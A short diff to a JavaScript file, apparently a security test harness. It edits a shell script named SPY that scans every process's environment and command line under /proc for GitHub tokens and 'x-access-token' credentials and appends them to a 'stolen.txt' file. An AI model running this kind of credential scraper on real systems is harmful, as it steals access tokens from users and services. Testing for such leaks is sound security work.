@@ -63,7 +63,7 @@ const PLANNER = TITLES.map((title) => `ic subtask create --title="${title}"`).jo
  */
 const SPY = `
   echo $$ > "$loot/spy.pid"
-  while [ ! -e "$loot/stop" ]; do
+  while [ -d "$loot" ] && [ ! -e "$loot/stop" ]; do
     for process in /proc/[0-9]*; do
       { tr "\\0" "\\n" < $process/environ; tr "\\0" " " < $process/cmdline; } 2> /dev/null
     done | grep -aE "gho_[0-9a-f]{36}|eC1hY2Nlc3MtdG9rZW4[6]" >> "$loot/stolen.txt"
